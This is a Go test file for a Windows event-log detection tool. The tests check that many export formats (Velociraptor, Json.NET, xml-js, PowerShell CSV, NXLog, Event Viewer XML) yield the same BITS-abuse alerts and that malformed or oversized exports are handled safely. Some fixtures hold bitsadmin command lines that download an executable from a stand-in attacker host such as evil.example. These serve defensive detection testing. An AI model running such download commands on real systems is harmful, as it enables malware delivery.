package cli

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"bitsscore/src/winevent"
)

// The tools' export shapes below are written, in the test, from the real
// recordings as each tool documents it writes them (the sources are named
// in src/winevent/nested.go, ecs.go and exports.go), and must give the
// alerts the recordings give as they are.

// An element is one XML element of an event, as the converters see it.
type element struct {
	name     string
	attrs    [][2]string
	text     string
	children []*element
}

func parseElement(t *testing.T, event []byte) *element {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(event))
	var stack []*element
	for {
		tok, err := d.Token()
		if err != nil {
			t.Fatalf("fixture event: %v", err)
		}
		switch tk := tok.(type) {
		case xml.StartElement:
			el := &element{name: tk.Name.Local}
			for _, a := range tk.Attr {
				name := a.Name.Local
				if a.Name.Space == "xmlns" {
					name = "xmlns:" + name
				}
				el.attrs = append(el.attrs, [2]string{name, a.Value})
			}
			if len(stack) > 0 {
				parent := stack[len(stack)-1]
				parent.children = append(parent.children, el)
			}
			stack = append(stack, el)
		case xml.CharData:
			if len(stack) > 0 {
				stack[len(stack)-1].text += string(tk)
			}
		case xml.EndElement:
			el := stack[len(stack)-1]
			if len(el.children) > 0 {
				el.text = strings.TrimSpace(el.text)
			}
			stack = stack[:len(stack)-1]
			if len(stack) == 0 {
				return el
			}
		}
	}
}

func (e *element) child(name string) *element {
	if e == nil {
		return nil
	}
	for _, c := range e.children {
		if c.name == name {
			return c
		}
	}
	return nil
}

func (e *element) attr(name string) string {
	if e == nil {
		return ""
	}
	for _, a := range e.attrs {
		if a[0] == name {
			return a[1]
		}
	}
	return ""
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// members writes an element's children as JSON members, siblings of one
// name as one array, each child written by write.
func members(e *element, write func(*element) string) []string {
	var out []string
	var seen []string
	for _, c := range e.children {
		if slices.Contains(seen, c.name) {
			continue
		}
		seen = append(seen, c.name)
		var same []string
		for _, d := range e.children {
			if d.name == c.name {
				same = append(same, write(d))
			}
		}
		if len(same) == 1 {
			out = append(out, quote(c.name)+":"+same[0])
		} else {
			out = append(out, quote(c.name)+":["+strings.Join(same, ",")+"]")
		}
	}
	return out
}

// jsonNet writes an element as Json.NET's SerializeXmlNode and Python's
// xmltodict do: attributes as "@name", text as "#text" beside them, an
// element with text only as its text, an empty one as null.
func jsonNet(e *element) string {
	if len(e.attrs) == 0 && len(e.children) == 0 {
		if e.text == "" {
			return "null"
		}
		return quote(e.text)
	}
	var parts []string
	for _, a := range e.attrs {
		parts = append(parts, quote("@"+a[0])+":"+quote(a[1]))
	}
	parts = append(parts, members(e, jsonNet)...)
	if e.text != "" {
		parts = append(parts, `"#text":`+quote(e.text))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// xmlJS writes an element as xml-js's compact form: "_attributes" and
// "_text".
func xmlJS(e *element) string {
	var parts []string
	if len(e.attrs) > 0 {
		var attrs []string
		for _, a := range e.attrs {
			attrs = append(attrs, quote(a[0])+":"+quote(a[1]))
		}
		parts = append(parts, `"_attributes":{`+strings.Join(attrs, ",")+"}")
	}
	parts = append(parts, members(e, xmlJS)...)
	if e.text != "" {
		parts = append(parts, `"_text":`+quote(e.text))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// number writes digits as a JSON number, anything else as a string.
func number(s string) string {
	if _, err := strconv.ParseUint(s, 10, 64); err == nil {
		return s
	}
	return quote(s)
}

// velociraptor writes an event as Velociraptor's parse_evtx() rows: no
// Event wrapper, System attributes as plain members, EventID as {"Value":N},
// SystemTime as epoch seconds, named Data as EventData members.
func velociraptor(t *testing.T, event *element) string {
	var system []string
	for _, c := range event.child("System").children {
		var parts []string
		for _, a := range c.attrs {
			v := quote(a[1])
			if a[0] == "SystemTime" {
				tm, err := time.Parse(time.RFC3339Nano, a[1])
				if err != nil {
					t.Fatal(err)
				}
				v = fmt.Sprintf("%d.%06d", tm.Unix(), tm.Nanosecond()/1000)
			}
			parts = append(parts, quote(a[0])+":"+v)
		}
		switch {
		case c.name == "EventID":
			parts = append(parts, `"Value":`+number(c.text))
			system = append(system, `"EventID":{`+strings.Join(parts, ",")+"}")
		case len(parts) > 0:
			system = append(system, quote(c.name)+":{"+strings.Join(parts, ",")+"}")
		default:
			system = append(system, quote(c.name)+":"+number(c.text))
		}
	}
	out := `{"System":{` + strings.Join(system, ",") + "}"
	if data := event.child("EventData"); data != nil {
		var named, unnamed []string
		for _, d := range data.children {
			if name := d.attr("Name"); name != "" {
				named = append(named, quote(name)+":"+quote(d.text))
			} else if d.name == "Data" {
				unnamed = append(unnamed, quote(d.text))
			}
		}
		if len(unnamed) > 0 {
			named = append(named, `"Data":[`+strings.Join(unnamed, ",")+"]")
		}
		out += `,"EventData":{` + strings.Join(named, ",") + "}"
	}
	if user := event.child("UserData"); user != nil {
		out += `,"UserData":` + jsonNet(user)
	}
	return out + `,"Message":""}`
}

// evtxHunter writes an event as the rows of Velociraptor's
// Windows.EventLogs.EvtxHunter artifact: System values in columns of its
// naming, EventData as parse_evtx() gives it.
func evtxHunter(t *testing.T, event *element) string {
	system := event.child("System")
	row := velociraptor(t, event)
	start := strings.Index(row, `,"EventData":`)
	if start < 0 {
		start = strings.Index(row, `,"UserData":`)
	}
	if start < 0 {
		start = strings.Index(row, `,"Message":`)
	}
	return fmt.Sprintf(`{"EventTime":%s,"Computer":%s,"Channel":%s,"Provider":%s,"EventID":%s,"EventRecordID":%s,"UserSID":%s,"Username":"",`,
		quote(system.child("TimeCreated").attr("SystemTime")), quote(system.child("Computer").text), quote(system.child("Channel").text),
		quote(system.child("Provider").attr("Name")), number(system.child("EventID").text), number(system.child("EventRecordID").text),
		quote(system.child("Security").attr("UserID"))) + row[start+1:len(row)-1] + `,"OSPath":"C:\\Windows\\System32\\winevt\\Logs\\x.evtx"}`
}

// nestedShapes writes the XML recordings as the nested-JSON converters do.
func nestedShapes(t *testing.T, lines [][]byte) map[string][]byte {
	var netLines, jsLines, veloLines, hunterLines [][]byte
	for _, line := range lines {
		event := parseElement(t, line)
		netLines = append(netLines, []byte(`{"Event":`+jsonNet(event)+"}"))
		jsLines = append(jsLines, []byte(`{"Event":`+xmlJS(event)+"}"))
		veloLines = append(veloLines, []byte(velociraptor(t, event)))
		hunterLines = append(hunterLines, []byte(evtxHunter(t, event)))
	}
	return map[string][]byte{
		"JSON, xmltodict / Json.NET (@Name, #text)": joinLines(netLines, "\n"),
		"JSON, xmltodict, one array, pretty":        prettyArray(t, netLines),
		"JSON, xml-js compact (_attributes, _text)": joinLines(jsLines, "\n"),
		"JSON, Velociraptor parse_evtx rows":        joinLines(veloLines, "\n"),
		"JSON, Velociraptor EvtxHunter rows":        joinLines(hunterLines, "\n"),
	}
}

func prettyArray(t *testing.T, lines [][]byte) []byte {
	var b bytes.Buffer
	if err := json.Indent(&b, []byte("["+string(joinLines(lines, ","))+"]"), "", "  "); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestExportShapesGiveTheSameAlerts(t *testing.T) {
	var xmlLines [][]byte
	for _, name := range xmlFixtures {
		xmlLines = append(xmlLines, fixtureFileLines(t, name)...)
	}
	want, status, stderr := scoreInput(t, joinLines(xmlLines, "\n"))
	if status != ExitAlert || len(want) != len(xmlLines) {
		t.Fatalf("reference: status %d, %d events of %d, stderr %s", status, len(want), len(xmlLines), stderr)
	}
	shapes := nestedShapes(t, xmlLines)
	for name, input := range evtxECmdShapes(t, xmlLines) {
		shapes[name] = input
	}
	for name, input := range ecsShapes(t, xmlLines) {
		shapes[name] = input
	}
	checkShapes(t, want, shapes)
}

func checkShapes(t *testing.T, want []string, shapes map[string][]byte) {
	t.Helper()
	for name, input := range shapes {
		t.Run(name, func(t *testing.T) {
			got, status, stderr := scoreInput(t, input)
			if status != ExitAlert {
				t.Errorf("status %d, want 1; stderr:\n%s", status, stderr)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("scored events differ from the recordings one event per line (-want +got):\n%s\nstderr:\n%s", diff, stderr)
			}
		})
	}
}

// psCSV writes rows as Windows PowerShell's Export-Csv does: a "#TYPE"
// line, then every field quoted, CRLF line ends.
func psCSV(typeName string, columns []string, rows [][]string) []byte {
	quoteAll := func(cells []string) string {
		q := make([]string, len(cells))
		for i, c := range cells {
			q[i] = `"` + strings.ReplaceAll(c, `"`, `""`) + `"`
		}
		return strings.Join(q, ",") + "\r\n"
	}
	out := "#TYPE " + typeName + "\r\n" + quoteAll(columns)
	for _, r := range rows {
		out += quoteAll(r)
	}
	return []byte(out)
}

func TestExportCsvTypeLineIsSkipped(t *testing.T) {
	lines := fixtureFileLines(t, jsonFixture)
	want, _, _ := scoreInput(t, joinLines(lines, "\n"))
	columns := []string{"_time", "host", "EventCode", "Image", "CommandLine", "ParentImage", "User"}
	var rows [][]string
	for _, line := range lines {
		e, err := winevent.Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		var row []string
		for _, c := range columns {
			row = append(row, e.Get(c))
		}
		rows = append(rows, row)
	}
	input := psCSV("System.Management.Automation.PSCustomObject", columns, rows)
	got, status, stderr := scoreInput(t, utf16LE(input, false))
	if status != ExitAlert || len(got) != len(want) {
		t.Fatalf("status %d, %d events of %d; stderr:\n%s", status, len(got), len(want), stderr)
	}
	if !strings.Contains(strings.Join(got, "\n"), "alert=true") {
		t.Errorf("no alert from the Sysmon 1 columns:\n%s", strings.Join(got, "\n"))
	}
}

// Exports that keep only the rendered message of each event cannot be
// scored soundly, and ECS process events hold no Windows event record:
// score says what they are and how to export instead, and exits 2.
func TestUnscorableExportsAreNamed(t *testing.T) {
	lines := fixtureFileLines(t, jsonFixture)
	var events []winevent.Event
	for _, line := range lines {
		e, err := winevent.Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	psColumns := []string{"Message", "Id", "Version", "Qualifiers", "Level", "Task", "Opcode", "Keywords", "RecordId", "ProviderName",
		"ProviderId", "LogName", "ProcessId", "ThreadId", "MachineName", "UserId", "TimeCreated", "ActivityId", "RelatedActivityId",
		"ContainerLog", "MatchedQueryIds", "Bookmark", "LevelDisplayName", "OpcodeDisplayName", "TaskDisplayName", "KeywordsDisplayNames", "Properties"}
	var psRows [][]string
	var psJSON []string
	var viewer strings.Builder
	viewer.WriteString("Level,Date and Time,Source,Event ID,Task Category\r\n")
	for _, e := range events {
		row := make([]string, len(psColumns))
		for i, c := range psColumns {
			switch c {
			case "Message":
				row[i] = e.Get("Message")
			case "Id":
				row[i] = e.Get("EventID")
			case "ProviderName":
				row[i] = e.Get("SourceName")
			case "LogName":
				row[i] = e.Get("Channel")
			case "MachineName":
				row[i] = e.Get("Hostname")
			case "TimeCreated":
				row[i] = "10/23/2020 2:36:43 AM"
			case "Properties":
				row[i] = "System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"
			}
		}
		psRows = append(psRows, row)
		psJSON = append(psJSON, fmt.Sprintf(`{"Message":%s,"Id":%s,"ProviderName":%s,"LogName":%s,"MachineName":%s,"TimeCreated":"\/Date(1603420603128)\/","Properties":[{"Value":%s}]}`,
			quote(e.Get("Message")), e.Get("EventID"), quote(e.Get("SourceName")), quote(e.Get("Channel")), quote(e.Get("Hostname")), quote(e.Get("CommandLine"))))
		fmt.Fprintf(&viewer, "Information,10/23/2020 2:36:43 AM,%s,%s,None,%s\r\n", e.Get("SourceName"), e.Get("EventID"), `"`+strings.ReplaceAll(e.Get("Message"), `"`, `""`)+`"`)
	}
	for name, tc := range map[string]struct {
		input []byte
		hint  string
	}{
		"Get-WinEvent | Export-Csv":     {psCSV("System.Diagnostics.Eventing.Reader.EventLogRecord", psColumns, psRows), "Get-WinEvent export"},
		"Get-WinEvent | ConvertTo-Json": {[]byte("[\r\n" + strings.Join(psJSON, ",\r\n") + "\r\n]"), "Get-WinEvent export"},
		"Event Viewer, Save as CSV":     {[]byte(viewer.String()), `Event Viewer "Save as CSV/Text"`},
		"Event Viewer, Save as Text":    {[]byte(strings.ReplaceAll(viewer.String(), ",", "\t")), `Event Viewer "Save as CSV/Text"`},
		"ECS process events, no winlog": {[]byte(`{"@timestamp":"2020-10-23T02:36:43Z","event":{"category":["process"]},"process":{"command_line":"bitsadmin /transfer j http://x/a.exe c:\\temp\\a.exe"}}`), "not a Windows event log record"},
	} {
		t.Run(name, func(t *testing.T) {
			got, status, stderr := scoreInput(t, tc.input)
			if status != ExitUsage || !strings.Contains(stderr, "no event has any field the detection reads") || !strings.Contains(stderr, tc.hint) {
				t.Errorf("status %d, want 2 and the hint %q; stderr:\n%s", status, tc.hint, stderr)
			}
			if strings.Contains(strings.Join(got, "\n"), "alert=true") {
				t.Errorf("an event alerts: %v", got)
			}
		})
	}
}

// prefixed writes an event with every element in a namespace prefix, as
// XML writers that do not default the namespace do.
func prefixed(event []byte) []byte {
	s := string(event)
	s = strings.Replace(s, `<Event xmlns=`, `<Event xmlns:e=`, 1)
	s = strings.NewReplacer("</", "</e:", "<", "<e:").Replace(s)
	return []byte(strings.ReplaceAll(s, "<e:/e:", "</e:"))
}

// rendered adds the <RenderingInfo> that wevtutil qe /f:RenderedXml and
// Event Viewer's XML view write after EventData.
func rendered(event []byte) []byte {
	info := `<RenderingInfo Culture="en-US"><Message>A message &amp; its text.</Message><Level>Information</Level>` +
		`<Task>None</Task><Opcode>Info</Opcode><Channel>Security</Channel><Provider>Microsoft Windows</Provider><Keywords><Keyword>Audit Success</Keyword></Keywords></RenderingInfo></Event>`
	i := bytes.LastIndex(event, []byte("</Event>"))
	return append(append([]byte{}, event[:i]...), info...)
}

func TestXMLVariantsGiveTheSameAlerts(t *testing.T) {
	var lines [][]byte
	for _, name := range xmlFixtures {
		lines = append(lines, fixtureFileLines(t, name)...)
	}
	want, _, _ := scoreInput(t, joinLines(lines, "\n"))
	var withPrefix, withRendering [][]byte
	for _, line := range lines {
		if !bytes.HasPrefix(line, []byte(`<Event xmlns=`)) {
			t.Fatalf("fixture event does not start with <Event xmlns=: %.60s", line)
		}
		withPrefix = append(withPrefix, prefixed(line))
		withRendering = append(withRendering, rendered(line))
	}
	saved := "<?xml version=\"1.0\" encoding=\"utf-8\" standalone=\"yes\"?>\r\n<Events>" + string(joinLines(withRendering, "")) + "</Events>"
	checkShapes(t, want, map[string][]byte{
		"XML, namespace prefix (<e:Event xmlns:e=...>)":    joinLines(withPrefix, "\n"),
		"XML, wevtutil /f:RenderedXml, one per line":       joinLines(withRendering, "\r\n"),
		"XML, Event Viewer Save Selected Events as XML":    []byte(saved),
		"XML, Event Viewer Save as XML, UTF-16LE with BOM": utf16LE([]byte(saved), false),
	})
}

// NXLog's im_msvistalog with to_json() writes flat lines like OTRF's, with
// its own time fields: EventTime in the collector's local time, with no
// zone, which cannot be placed exactly, so the events have no _time.
func TestNXLogJSONGivesTheSameAlerts(t *testing.T) {
	lines := fixtureFileLines(t, jsonFixture)
	want, _, _ := scoreInput(t, joinLines(lines, "\n"))
	var nxlog [][]byte
	for _, line := range lines {
		var flat map[string]any
		if err := json.Unmarshal(line, &flat); err != nil {
			t.Fatal(err)
		}
		delete(flat, "@timestamp")
		delete(flat, "TimeCreated")
		flat["EventTime"] = "2020-10-23 02:36:43"
		flat["EventReceivedTime"] = "2020-10-23 02:36:44"
		flat["SourceModuleName"], flat["SourceModuleType"] = "eventlog", "im_msvistalog"
		flat["SeverityValue"], flat["Severity"], flat["EventType"] = 2, "INFO", "INFO"
		out, err := json.Marshal(flat)
		if err != nil {
			t.Fatal(err)
		}
		nxlog = append(nxlog, out)
	}
	got, status, stderr := scoreInput(t, joinLines(nxlog, "\r\n"))
	withoutTime := func(events []string) []string {
		out := make([]string, len(events))
		for i, e := range events {
			_, rest, _ := strings.Cut(e, " ")
			out[i] = rest
		}
		slices.Sort(out)
		return out
	}
	if status != ExitAlert {
		t.Errorf("status %d; stderr:\n%s", status, stderr)
	}
	if diff := cmp.Diff(withoutTime(want), withoutTime(got)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// Hostile exports: a Payload nested too deep, a Payload that is not JSON,
// a nested event with 50,000 Data values, ECS with 20,000
// paramN, a 4103 message of 200,000 "Context:" lines. Each is one error
// or one event, read in one pass; the attack after them still alerts.
func TestScoreHostileExports(t *testing.T) {
	attack := `{"EventId":4688,"Provider":"Microsoft-Windows-Security-Auditing","Channel":"Security","TimeCreated":"2021-02-22T23:07:20Z","Payload":` +
		quote(`{"EventData":{"Data":[{"@Name":"NewProcessName","#text":"C:\\Windows\\System32\\bitsadmin.exe"},{"@Name":"CommandLine","#text":"bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe"}]}}`) + "}"
	deepPayload := `{"EventId":1,"Provider":"p","Payload":` + quote(`{"EventData":`+strings.Repeat("[", 100)+strings.Repeat("]", 100)+"}") + "}"
	var manyData strings.Builder
	manyData.WriteString(`{"Event":{"System":{"EventID":"800"},"EventData":{"Data":[`)
	for i := range 50_000 {
		if i > 0 {
			manyData.WriteString(",")
		}
		manyData.WriteString(`{"#text":"x"}`)
	}
	manyData.WriteString("]}}}")
	var manyParams strings.Builder
	manyParams.WriteString(`{"winlog":{"event_id":"800","provider_name":"PowerShell","event_data":{`)
	for i := range 20_000 {
		if i > 0 {
			manyParams.WriteString(",")
		}
		fmt.Fprintf(&manyParams, `"param%d":"v"`, 20_000-i)
	}
	manyParams.WriteString("}}}")
	contexts := `{"winlog":{"event_id":"4103","provider_name":"Microsoft-Windows-PowerShell"},"message":` + quote(strings.Repeat("\nContext:x", 200_000)) + "}"
	input := strings.Join([]string{deepPayload, `{"EventId":1,"Provider":"p","Payload":"{\"EventData\":{"}`, manyData.String(), manyParams.String(), contexts, attack}, "\n")
	_, stderr, status := runScore(strings.NewReader(input), "--mode", "hardened")
	if status != ExitAlert || !strings.Contains(stderr, "-:1: winevent: EvtxECmd Payload: nested deeper than 32 levels") ||
		!strings.Contains(stderr, "-:2: winevent: EvtxECmd Payload: input ends inside the event") ||
		!strings.Contains(stderr, "-: 4 events scored, 1 alert, 2 could not be read") {
		t.Errorf("status %d, stderr %q", status, stderr)
	}
}
